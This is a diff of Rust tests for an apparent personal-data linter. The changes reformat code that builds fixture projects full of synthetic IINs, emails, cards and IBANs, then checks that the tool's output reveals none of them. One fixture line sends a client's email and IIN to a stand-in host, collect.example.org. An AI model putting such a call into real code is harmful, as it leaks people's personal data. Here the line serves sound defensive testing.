@@ -30,9 +30,13 @@ fn tree() -> tempfile::TempDir {
          pub async fn send(http: &reqwest::Client, client: &Client) {{\n    http.post(\"https://collect.example.org/{IIN}?to={MAIL}\").json(&client.email).send().await.unwrap();\n}}\n\n\
          #[test]\nfn works() {{\n    assert_eq!(find(\"{IIN}\"), \"{PHONE}\");\n}}\n"
     );
-    let toml = format!("[owner]\niin = \"{IIN}\"\nemail = \"{MAIL}\"\nphone = \"{PHONE}\"\ncard = \"{CARD}\"\niban = \"{IBAN}\" # {MAIL}\n");
+    let toml = format!(
+        "[owner]\niin = \"{IIN}\"\nemail = \"{MAIL}\"\nphone = \"{PHONE}\"\ncard = \"{CARD}\"\niban = \"{IBAN}\" # {MAIL}\n"
+    );
     let env = format!("OWNER_IIN={IIN}\nOWNER_EMAIL={MAIL}\nOWNER_PHONE={PHONE}\nCARD={CARD}\n");
-    let json = format!("{{\"owner\": {{\"iin\": \"{IIN}\", \"email\": \"{MAIL}\", \"phone\": \"{SPACED_PHONE}\", \"card\": \"{SPACED_CARD}\"}}}}\n");
+    let json = format!(
+        "{{\"owner\": {{\"iin\": \"{IIN}\", \"email\": \"{MAIL}\", \"phone\": \"{SPACED_PHONE}\", \"card\": \"{SPACED_CARD}\"}}}}\n"
+    );
     folder(&[
         ("db/001.sql", &sql),
         ("src/client.rs", &rust),
@@ -75,7 +79,10 @@ fn no_format_prints_a_whole_personal_value() {
 fn numbers(count: usize) -> Vec<String> {
     let valid = |serial: usize| {
         let digits = format!("0001013{serial:04}");
-        let sum = |first: usize| digits.bytes().enumerate().map(|(at, digit)| usize::from(digit - b'0') * ((first + at - 1) % 11 + 1)).sum::<usize>() % 11;
+        let sum = |first: usize| {
+            digits.bytes().enumerate().map(|(at, digit)| usize::from(digit - b'0') * ((first + at - 1) % 11 + 1)).sum::<usize>()
+                % 11
+        };
         match (sum(1), sum(3)) {
             (10, 10) => None,
             (10, check) | (check, _) => Some(format!("{digits}{check}")),
@@ -90,7 +97,10 @@ fn a_line_with_hundreds_of_people_shows_none() {
     let values: Vec<(String, String)> =
         numbers(50).into_iter().enumerate().map(|(at, number)| (number, format!("person.no{at}@mail.kz"))).collect();
     let rows: Vec<_> = values.iter().map(|(number, mail)| format!("('{number}', '{mail}')")).collect();
-    let sql = format!("CREATE TABLE clients (iin char(12), email text);\nINSERT INTO clients (iin, email) VALUES {};\n", rows.join(", "));
+    let sql = format!(
+        "CREATE TABLE clients (iin char(12), email text);\nINSERT INTO clients (iin, email) VALUES {};\n",
+        rows.join(", ")
+    );
     let rust: Vec<_> = values.iter().map(|(number, mail)| format!("\"{mail}\", \"{number}\"")).collect();
     let rust = format!(
         "pub struct Client {{ pub iin: String }}\npub fn tell(client: &Client) {{ let known = [{}]; tracing::info!(\"{{}} {{:?}}\", client.iin, known); let more = [{}]; }}\n",
@@ -102,8 +112,10 @@ fn a_line_with_hundreds_of_people_shows_none() {
         for format in *formats {
             let output = pdlint(folder.path(), &[command, "--format", format, "--verbose"]);
             assert!(stdout(&output).contains("client"), "{}", stderr(&output));
-            let leaked: Vec<_> =
-                values.iter().filter(|(number, mail)| stdout(&output).contains(number) || stdout(&output).contains(mail)).collect();
+            let leaked: Vec<_> = values
+                .iter()
+                .filter(|(number, mail)| stdout(&output).contains(number) || stdout(&output).contains(mail))
+                .collect();
             assert!(leaked.is_empty(), "{command} --format {format} shows {} people, e.g. {:?}", leaked.len(), leaked.first());
         }
     }
